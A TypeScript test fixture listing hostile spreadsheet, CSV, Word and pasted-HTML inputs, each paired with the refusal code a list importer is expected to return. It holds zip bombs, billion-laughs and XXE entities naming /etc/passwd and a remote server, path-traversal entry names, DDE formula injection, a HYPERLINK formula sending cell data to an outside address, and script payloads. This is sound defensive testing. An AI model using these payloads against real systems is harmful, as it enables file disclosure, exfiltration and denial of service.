import { Buffer } from 'node:buffer';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { deflateRawSync } from 'node:zlib';
import type { WorkbookRefusalCode } from '#electron/excel/workbook-refusal';
import type { ListSource } from '#shared/domain/raw-workbook';
import {
  documentOf,
  inlineCell,
  LIST_XML,
  sheetXml,
  utf8,
  wordParagraph,
  wordRow,
  wordTable,
  workbookOf,
  workbookOfSheets,
  workbookParts,
} from '#tests/builders/office-package';
import { zipOf } from '#tests/builders/zip-file';

/** A file made to break a reader, and what has to come of it. */
export type HostileFile = {
  readonly name: string;
  readonly expected: WorkbookRefusalCode | 'read';
  readonly source: () => ListSource;
};

const MEGABYTE = 1024 * 1024;

const named = (
  fileName: string,
  name: string,
  expected: HostileFile['expected'],
  bytes: () => Uint8Array,
): HostileFile => ({ name, expected, source: () => ({ fileName, bytes: bytes() }) });

const xlsx = (name: string, expected: HostileFile['expected'], bytes: () => Uint8Array): HostileFile =>
  named('danh-sach.xlsx', name, expected, bytes);

const sheet = (name: string, expected: HostileFile['expected'], rows: () => string): HostileFile =>
  xlsx(name, expected, () => workbookOf(sheetXml(rows())));

const csv = (name: string, expected: HostileFile['expected'], text: () => string | Buffer): HostileFile =>
  named('danh-sach.csv', name, expected, () => Buffer.from(text()));

const docx = (name: string, expected: HostileFile['expected'], body: () => string): HostileFile =>
  named('danh-sach.docx', name, expected, () => documentOf({ body: body() }));

const entry = (name: string, expected: HostileFile['expected'], entryName: string): HostileFile =>
  xlsx(name, expected, () => workbookOf(LIST_XML, [{ name: entryName, data: utf8('<a/>') }]));

const pasted = (name: string, expected: HostileFile['expected'], html: () => string, text = ''): HostileFile => ({
  name,
  expected,
  source: () => ({ pasted: { html: html(), text } }),
});

const spaces = (megabytes: number): Buffer => Buffer.alloc(megabytes * MEGABYTE, 0x20);

/** 45 MB that pack to less than a hundredth, but not to less than the ratio that gives a bomb away. */
const dense = (() => {
  let made: { readonly data: Buffer; readonly packed: Buffer } | null = null;
  return () => {
    if (made !== null) return made;
    const data = Buffer.alloc(45 * MEGABYTE);
    let state = 1;
    for (let at = 0; at < data.length; at += 512) {
      state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
      data.writeUInt32LE(state, at);
    }
    made = { data, packed: deflateRawSync(data, { level: 1 }) };
    return made;
  };
})();

const BOMBS: readonly HostileFile[] = [
  xlsx('a sheet of 80 MB of spaces', 'workbook.suspicious', () =>
    workbookOf(Buffer.concat([utf8(LIST_XML), spaces(80)])),
  ),
  xlsx('60 MB that say they are 100 bytes', 'workbook.suspicious', () =>
    workbookOf(LIST_XML, [{ name: 'xl/media/a.xml', data: spaces(60), declaredSize: 100 }]),
  ),
  xlsx('a sheet that says it is 4 GB', 'workbook.suspicious', () =>
    zipOf(workbookParts(LIST_XML).map((part) => ({ ...part, declaredSize: 0xffff_fff0 }))),
  ),
  xlsx('a part that says it is larger than it is', 'workbook.suspicious', () =>
    workbookOf(LIST_XML, [{ name: 'xl/media/a.xml', data: utf8('<a/>'), declaredSize: 900 }]),
  ),
  xlsx('1.5 MB of one letter', 'workbook.suspicious', () =>
    workbookOf(LIST_XML, [{ name: 'xl/media/a.bin', data: Buffer.alloc(1.5 * MEGABYTE, 0x41) }]),
  ),
  xlsx('225 MB in five parts', 'workbook.suspicious', () =>
    workbookOf(
      LIST_XML,
      [1, 2, 3, 4, 5].map((part) => ({ name: `xl/media/${part}.bin`, ...dense() })),
    ),
  ),
  xlsx('2,100 parts', 'workbook.suspicious', () =>
    workbookOf(
      LIST_XML,
      Array.from({ length: 2_100 }, (_, index) => ({ name: `xl/media/${index}.bin`, data: utf8('a') })),
    ),
  ),
  xlsx('more parts claimed than there are', 'workbook.unreadable', () => zipOf(workbookParts(LIST_XML), 60)),
  xlsx('a bomb inside, never opened', 'read', () =>
    workbookOf(LIST_XML, [
      { name: 'xl/media/inner.zip', data: zipOf([{ name: 'a.xml', data: Buffer.alloc(MEGABYTE / 2, 0x20) }]) },
    ]),
  ),
  xlsx('a wrong checksum', 'workbook.unreadable', () =>
    zipOf(workbookParts(LIST_XML).map((part) => ({ ...part, checksum: 7 }))),
  ),
  xlsx('one text of 30,000 letters in 3,000 cells', 'workbook.tooManyCells', () =>
    workbookOf(
      sheetXml(
        Array.from(
          { length: 3_000 },
          (_, row) => `<row r="${row + 1}"><c r="A${row + 1}" t="s"><v>0</v></c></row>`,
        ).join(''),
      ),
      [{ name: 'xl/sharedStrings.xml', data: utf8(`<sst><si><t>${'Lê Văn '.repeat(4_286)}</t></si></sst>`) }],
    ),
  ),
  sheet(
    'a cell of 40,000 letters',
    'workbook.cellTooLong',
    () => `<row r="1">${inlineCell('A1', 'a'.repeat(40_000))}</row>`,
  ),
  xlsx('the same part as 200 sheets', 'workbook.suspicious', () => {
    const sheets = Array.from({ length: 200 }, (_, index) => `<sheet name="S${index}" r:id="r1"/>`).join('');
    return zipOf(
      workbookParts(LIST_XML).map((part) =>
        part.name === 'xl/workbook.xml'
          ? { ...part, data: utf8(`<workbook><sheets>${sheets}</sheets></workbook>`) }
          : part,
      ),
    );
  }),
];

const LAUGHS = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, level) => `<!ENTITY ${'abcdefghij'[level + 1]} "${`&${'abcdefghij'[level]};`.repeat(10)}">`).join('')}]>`;

const encoded = (xml: string): Buffer => Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>${xml}`, 'utf16le');

const XML: readonly HostileFile[] = [
  xlsx('an entity that names a file', 'workbook.suspicious', () =>
    workbookOf(`<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>${LIST_XML}`),
  ),
  xlsx('an entity that names a server', 'workbook.suspicious', () =>
    workbookOf(`<!DOCTYPE a [<!ENTITY % e SYSTEM "http://192.0.2.1/e"> %e;]>${LIST_XML}`),
  ),
  xlsx('a billion laughs', 'workbook.suspicious', () => workbookOf(LAUGHS + LIST_XML)),
  xlsx('entities in UTF-16', 'workbook.suspicious', () =>
    workbookOf(encoded(`<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>${LIST_XML}`)),
  ),
  xlsx('UTF-16 the other way round', 'workbook.suspicious', () => workbookOf(encoded(LIST_XML).swap16())),
  xlsx('entities in UTF-7', 'workbook.suspicious', () =>
    workbookOf(`<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-${LIST_XML}`),
  ),
  xlsx('another code page', 'workbook.suspicious', () =>
    workbookOf(`<?xml version="1.0" encoding="windows-1252"?>${LIST_XML}`),
  ),
  xlsx('bytes that are no UTF-8', 'workbook.suspicious', () =>
    workbookOf(Buffer.concat([utf8(LIST_XML), Buffer.from([0xc3, 0x28])])),
  ),
  xlsx('zeros in the XML', 'workbook.suspicious', () => workbookOf(LIST_XML.replace('Lê', 'L\0ê'))),
  xlsx('200,000 elements in each other', 'read', () => workbookOf(LIST_XML + '<a>'.repeat(200_000))),
  xlsx('a comment without end', 'read', () => workbookOf(`<worksheet><!-- ${LIST_XML}`)),
  xlsx('a CDATA without end', 'read', () => workbookOf(`<worksheet><![CDATA[ ${LIST_XML}`)),
  xlsx('an attribute without end', 'read', () => workbookOf(`<worksheet><row r="1${'x'.repeat(100_000)}`)),
  sheet(
    'entities of half letters',
    'read',
    () => `<row r="1">${inlineCell('A1', '&#xD800;&#0;&#x110000;&#999999999999;')}</row>`,
  ),
];

const far = (reference: string): string => `<row r="1">${inlineCell(reference, 'x')}</row>`;

const PLACES: readonly HostileFile[] = [
  sheet('a far column', 'workbook.tooManyCells', () => far('XFD1')),
  sheet('an impossible column', 'workbook.tooManyCells', () => far('ZZZZZZ1')),
  sheet('a far row', 'workbook.tooManyCells', () => `<row r="999999999">${inlineCell('A999999999', 'x')}</row>`),
  sheet('a row of a thousand digits', 'workbook.tooManyCells', () => `<row r="${'9'.repeat(1_000)}"/>`),
  sheet('a negative row', 'workbook.tooManyCells', () => `<row r="-5">${inlineCell('A1', 'x')}</row>`),
  sheet('rows going back', 'workbook.tooManyCells', () => `<row r="5">${inlineCell('A5', 'x')}</row><row r="2"/>`),
  sheet('a lonely cell in the last row', 'read', () => `<row r="1048576">${inlineCell('A1048576', 'x')}</row>`),
  xlsx('a lying dimension', 'read', () => workbookOf(`<worksheet><dimension ref="A1:XFD1048576"/>${LIST_XML}`)),
  xlsx('the whole sheet merged', 'read', () =>
    workbookOf(`${LIST_XML}<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`),
  ),
  xlsx('the whole sheet merged 20,000 times', 'workbook.tooManyCells', () =>
    workbookOf(
      sheetXml(`<row r="1048576">${inlineCell('A1048576', 'x')}</row>`) +
        '<mergeCell ref="A1:XFD1048576"/>'.repeat(20_000),
    ),
  ),
  xlsx('columns hidden from minus a billion on', 'read', () =>
    workbookOf(`<col min="-1000000000" max="999999999" hidden="1"/>${LIST_XML}`),
  ),
  xlsx('all columns hidden 50,000 times', 'read', () =>
    workbookOf('<col min="1" max="16384" hidden="1"/>'.repeat(20_000) + LIST_XML),
  ),
  sheet('150,000 rows', 'workbook.tooManyCells', () =>
    Array.from({ length: 150_000 }, (_, row) => `<row><c><v>${(row * 7_919) % 1_000_003}</v></c></row>`).join(''),
  ),
  sheet('a shared string that is not there', 'read', () => '<row r="1"><c r="A1" t="s"><v>-1e99</v></c></row>'),
];

const EVIL_NAMES: readonly (readonly [string, string])[] = [
  ['out of the folder', '../evil.xml'],
  ['out of the folder, backwards', '..\\evil.xml'],
  ['out of the folder, later', 'xl/../../evil.xml'],
  ['a drive', 'C:\\evil.xml'],
  ['a drive with slashes', 'C:/evil.xml'],
  ['the root', '/etc/evil.xml'],
  ['a server', '\\\\192.0.2.1\\c$\\evil.xml'],
  ['a device', 'xl/CON.xml'],
  ['a device of another kind', 'xl/lpt1'],
  ['a second stream', 'xl/a.xml:evil.exe'],
  ['a dot at the end', 'xl/a.xml.'],
  ['a space at the end', 'xl/a.xml '],
  ['a zero inside', 'xl/a\0.xml'],
  ['an entry twice', 'xl/workbook.xml'],
  ['an entry twice in capitals', 'XL/WORKBOOK.XML'],
  ['300 letters', `xl/${'a'.repeat(300)}.xml`],
];

const NAMES: readonly HostileFile[] = [
  ...EVIL_NAMES.map(([name, entryName]) => entry(`an entry name with ${name}`, 'workbook.suspicious', entryName)),
  xlsx('entry names apart only by how é is written', 'workbook.suspicious', () =>
    workbookOf(LIST_XML, [
      { name: 'xl/caf\u00e9.xml', data: utf8('<a/>') },
      { name: 'xl/cafe\u0301.xml', data: utf8('<a/>') },
    ]),
  ),
  xlsx('an entry that is a link', 'workbook.suspicious', () =>
    workbookOf(LIST_XML, [{ name: 'xl/link.xml', data: utf8('/etc/passwd'), isSymlink: true }]),
  ),
];

const compound = (stream: string): Buffer =>
  Buffer.concat([
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    Buffer.alloc(504),
    Buffer.from(stream, 'utf16le'),
    Buffer.alloc(512),
  ]);

const odt = (): Buffer =>
  zipOf([
    { name: 'mimetype', data: utf8('application/vnd.oasis.opendocument.spreadsheet') },
    { name: 'META-INF/manifest.xml', data: utf8('<manifest/>') },
    { name: 'content.xml', data: utf8('<office/>') },
  ]);

const WRONG_KINDS: readonly HostileFile[] = [
  xlsx('a PDF', 'workbook.notASpreadsheet', () => utf8('%PDF-1.7 trang 1')),
  csv('a PDF named .csv', 'workbook.notASpreadsheet', () => '%PDF-1.7 trang 1'),
  xlsx('a photo', 'workbook.notASpreadsheet', () =>
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46]),
  ),
  csv('a photo named .csv', 'workbook.notASpreadsheet', () =>
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49]),
  ),
  xlsx('a program', 'workbook.notASpreadsheet', () => Buffer.concat([utf8('MZ'), Buffer.alloc(512, 0x90)])),
  named('ds.xls', 'a web page without a table', 'workbook.notASpreadsheet', () =>
    utf8('<html><script>alert(1)</script></html>'),
  ),
  named('ds.xls', 'a web page with a list', 'read', () =>
    utf8('<html><script>alert(1)</script><table><tr><td>STT<td>Họ và tên<tr><td>1<td>Lê Văn Tám</table></html>'),
  ),
  csv('rich text', 'workbook.notASpreadsheet', () => '{\\rtf1 danh sach}'),
  xlsx('a zip of something else', 'workbook.notASpreadsheet', () => zipOf([{ name: 'a.txt', data: utf8('a') }])),
  xlsx('an empty zip', 'workbook.notASpreadsheet', () => zipOf([])),
  xlsx('nothing', 'workbook.empty', () => Buffer.alloc(0)),
  xlsx('21 MB', 'workbook.tooLarge', () => Buffer.alloc(21 * MEGABYTE)),
  named('ds.ods', 'an OpenDocument sheet', 'workbook.otherFormat', odt),
  named('ds.xlsb', 'a binary workbook', 'workbook.otherFormat', () =>
    zipOf([
      ...workbookParts(LIST_XML).filter(({ name }) => name === 'xl/sheets/odd.xml'),
      { name: 'xl/workbook.bin', data: Buffer.alloc(64, 1) },
    ]),
  ),
  named('ds.doc', 'a Word file of the old kind', 'workbook.oldWord', () => compound('WordDocument')),
  xlsx('a protected workbook', 'workbook.protected', () => compound('EncryptedPackage')),
  named('ds.xls', 'an old workbook with macros', 'workbook.macro', () => compound('Workbook _VBA_PROJECT_CUR')),
  named('ds.xls', 'an old workbook without its records', 'workbook.unreadable', () => compound('Workbook')),
  named('ds.xls', 'another compound file', 'workbook.notASpreadsheet', () => compound('Other')),
  xlsx('parts under a password', 'workbook.protected', () =>
    zipOf(workbookParts(LIST_XML).map((part) => ({ ...part, isEncrypted: true }))),
  ),
  entry('macros', 'workbook.macro', 'xl/vbaProject.bin'),
  entry('macros of Excel 4', 'workbook.macro', 'xl/macrosheets/sheet1.xml'),
  entry('an ActiveX control', 'workbook.embedded', 'xl/activeX/activeX1.xml'),
  entry('an embedded file', 'workbook.embedded', 'xl/embeddings/oleObject1.bin'),
  entry('links to other workbooks', 'workbook.externalLinks', 'xl/externalLinks/externalLink1.xml'),
  named('ds.docm', 'a document with macros', 'workbook.macro', () =>
    documentOf({ body: wordParagraph('a'), more: [{ name: 'word/vbaProject.bin', data: utf8('a') }] }),
  ),
  xlsx('half a workbook', 'workbook.unreadable', () => {
    const whole = workbookOf(LIST_XML);
    return whole.subarray(0, whole.length / 2);
  }),
];

const formula = (text: string): string =>
  `<row r="1"><c r="A1" t="str"><f>${text.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}</f><v>Lê Văn Tám</v></c></row>`;

const WORDS: readonly HostileFile[] = [
  xlsx('sheets named __proto__ and constructor', 'read', () =>
    workbookOfSheets([
      ['__proto__', LIST_XML],
      ['constructor', LIST_XML],
      ['hasOwnProperty', LIST_XML],
    ]),
  ),
  sheet(
    'headers named __proto__',
    'read',
    () =>
      `<row r="1">${['STT', 'Họ và tên', '__proto__', 'constructor', 'Danh hiệu'].map((text, index) => inlineCell(`${'ABCDE'[index]}1`, text)).join('')}</row><row r="2">${['1', 'Lê Văn Tám', 'toString', '__proto__', 'LĐTT'].map((text, index) => inlineCell(`${'ABCDE'[index]}2`, text)).join('')}</row>`,
  ),
  xlsx('a comment and a shared string named __proto__', 'read', () =>
    workbookOf(sheetXml('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>__proto__</v></c></row>'), [
      { name: 'xl/sharedStrings.xml', data: utf8('<sst><si><t>__proto__</t></si></sst>') },
      {
        name: 'xl/comments1.xml',
        data: utf8('<comments><comment ref="__proto__"><text><t>a</t></text></comment></comments>'),
      },
    ]),
  ),
  sheet('a formula that starts a program', 'read', () => formula("cmd|'/c calc'!A0")),
  sheet('a formula that calls home', 'read', () => formula('HYPERLINK("http://192.0.2.1/?"&B1,"a")')),
  sheet('a formula of another workbook', 'read', () => formula("'[http://192.0.2.1/a.xlsx]Sheet1'!A1")),
  csv('formulas in a text file', 'read', () => "=cmd|'/c calc'!A0;+1+1;@SUM(1);-2\n\t=1;Lê Văn Tám;x;y\n"),
];

const TEXTS: readonly HostileFile[] = [
  csv('a quote without end', 'workbook.cellTooLong', () => `"${'a'.repeat(19 * MEGABYTE)}`),
  csv('a quote without end over many lines', 'workbook.tooManyCells', () => `"${'a;b\n'.repeat(4 * MEGABYTE)}`),
  csv('only quotes', 'workbook.cellTooLong', () => '"'.repeat(19 * MEGABYTE)),
  csv('quotes that open and never close', 'workbook.tooManyCells', () => '"a;'.repeat(6 * MEGABYTE)),
  csv('a line of 19 MB', 'workbook.cellTooLong', () => 'a'.repeat(19 * MEGABYTE)),
  csv('a line of 19 million delimiters', 'read', () => ';'.repeat(19 * MEGABYTE)),
  csv('19 million lines', 'workbook.tooManyCells', () => '\n'.repeat(19 * MEGABYTE)),
  csv('zeros among the letters', 'workbook.notASpreadsheet', () => 'STT;Họ và tên\n1;Lê\0 Văn Tám\n2;x\n'),
  csv('zeros far behind', 'workbook.notASpreadsheet', () => `${'1;Lê Văn Tám\n'.repeat(20_000)}\0`),
  csv('300 columns', 'workbook.tooManyCells', () => 'a;'.repeat(300)),
  csv('half of a UTF-16 letter', 'read', () => Buffer.from([0xff, 0xfe, 0x41, 0x00, 0x3d, 0xd8, 0x0a])),
  pasted('a paste of 6 MB', 'workbook.pastedTooLarge', () => '<table>'.padEnd(6 * MEGABYTE), 'a'.repeat(6 * MEGABYTE)),
  pasted('an empty paste', 'workbook.nothingPasted', () => '<p>&nbsp;</p>'),
  pasted('a paste of 100,000 tables in tables', 'workbook.suspicious', () => '<table><tr><td>'.repeat(100_000)),
  pasted(
    'a paste of 100,000 elements in elements',
    'workbook.suspicious',
    () => `<table><td>${'<div>'.repeat(100_000)}`,
  ),
  pasted(
    'a paste of endless cells',
    'workbook.tooManyCells',
    () => '<table><tr><td rowspan=999999999 colspan=999999999>STT<tr><td>1</table>',
  ),
  pasted('a paste of cells too many', 'workbook.tooManyCells', () => `<table><tr>${'<td>x'.repeat(300)}</table>`),
  pasted('a paste of brackets', 'workbook.cellTooLong', () => `<table><tr><td>x</table>${'<'.repeat(4 * MEGABYTE)}`),
  pasted('a paste of open quotes', 'read', () => `<table><tr><td>x</table>${'<a b="'.repeat(700_000)}`),
  pasted(
    'a paste of style without rules',
    'read',
    () => `<style>${'a,'.repeat(2 * MEGABYTE)}</style><table><tr><td>x</table>`,
  ),
  pasted(
    'a paste of a script',
    'read',
    () => '<table><tr><td onclick="x()">a<script>x()</script><img src=x onerror=x()></table>',
  ),
];

const inEachOther = (times: number): string => `${'<w:tbl><w:tr><w:tc>'.repeat(times)}${wordParagraph('x')}`;

const DOCUMENTS: readonly HostileFile[] = [
  named('ds.docx', 'a document of 80 MB of spaces', 'workbook.suspicious', () =>
    documentOf({ body: wordParagraph('a') + ' '.repeat(80 * MEGABYTE) }),
  ),
  docx('100,000 tables in tables', 'workbook.suspicious', () => inEachOther(100_000)),
  docx('100,000 text boxes in text boxes', 'workbook.suspicious', () => '<w:p><w:r><w:txbxContent>'.repeat(100_000)),
  docx(
    '120,000 empty paragraphs',
    'read',
    () => '<w:p/>'.repeat(60_000) + wordParagraph('x') + '<w:p></w:p>'.repeat(60_000),
  ),
  docx('130,000 lines', 'workbook.tooManyCells', () =>
    Array.from({ length: 130_000 }, (_, line) => `<w:p><w:r><w:t>${(line * 7_919) % 1_000_003}</w:t></w:r></w:p>`).join(
      '',
    ),
  ),
  docx('a cell over a billion columns', 'workbook.tooManyCells', () =>
    wordTable([wordRow('a', '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr></w:tc>')]),
  ),
  docx('a row that starts at column minus one', 'read', () =>
    wordTable([wordRow('a').replace('<w:tr>', '<w:tr><w:trPr><w:gridBefore w:val="-1"/></w:trPr>')]),
  ),
  docx(
    'ends without beginnings',
    'read',
    () => `</w:tc></w:tr></w:tbl></w:txbxContent></w:p>${wordParagraph('x')}</w:tc>`,
  ),
  docx('a document cut inside a table', 'read', () => '<w:tbl><w:tr><w:tc><w:p><w:r><w:t>x'),
  docx('a paragraph of 40,000 letters', 'workbook.cellTooLong', () => wordParagraph('a'.repeat(40_000))),
  named('ds.docx', 'styles in a ring and a list without end', 'read', () =>
    documentOf({
      body: `<w:p><w:pPr><w:pStyle w:val="A"/><w:numPr><w:ilvl w:val="99"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>`,
      styles:
        '<w:style w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:styleId="B"><w:basedOn w:val="A"/></w:style>',
      numbering: `<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="1e308"/><w:numFmt w:val="upperLetter"/><w:lvlText w:val="${'%1'.repeat(50_000)}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>`,
    }),
  ),
  named('ds.docx', 'an entity in a document', 'workbook.suspicious', () =>
    zipOf([{ name: 'word/document.xml', data: utf8('<!DOCTYPE a><w:document/>') }]),
  ),
];

const OLD_WORKBOOK = path.join(import.meta.dirname, '..', 'fixtures', 'lists', 'G06_ubnd-phuong_ho-gia-dinh.xls');

/** The records of a good .xls changed in place. */
const changedOld = (change: (bytes: Buffer) => void): Buffer => {
  const bytes = readFileSync(OLD_WORKBOOK);
  change(bytes);
  return bytes;
};

const OLD_WORKBOOKS: readonly HostileFile[] = [
  named('ds.xls', 'an old workbook cut short', 'workbook.unreadable', () =>
    readFileSync(OLD_WORKBOOK).subarray(0, 3_000),
  ),
  named('ds.xls', 'an old workbook whose sectors chase each other', 'workbook.unreadable', () =>
    changedOld((bytes) => bytes.fill(0, bytes.readUInt32LE(0x4c) * 512 + 512, bytes.readUInt32LE(0x4c) * 512 + 1_024)),
  ),
  named('ds.xls', 'an old workbook whose stream goes round in a circle', 'workbook.unreadable', () =>
    changedOld((bytes) => {
      const table = (bytes.readUInt32LE(0x4c) + 1) * 512;
      const entry = bytes.indexOf(Buffer.from('Workbook', 'utf16le'));
      const second = bytes.readInt32LE(table + bytes.readInt32LE(entry + 116) * 4);
      const third = bytes.readInt32LE(table + second * 4);
      bytes.writeInt32LE(second, table + third * 4);
      bytes.writeInt32LE(third, entry + 116);
    }),
  ),
  named('ds.xls', 'an old workbook of a million sectors', 'workbook.unreadable', () =>
    changedOld((bytes) => {
      bytes.writeUInt32LE(0x0100_0000, 0x2c);
      bytes.writeUInt32LE(0x0100_0000, 0x48);
    }),
  ),
];

/** Files made to break readers, by kind. Each is to be refused with its code, or read, in time. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  ...[...BOMBS, ...XML, ...PLACES, ...NAMES, ...WRONG_KINDS],
  ...[...WORDS, ...TEXTS, ...DOCUMENTS, ...OLD_WORKBOOKS],
];
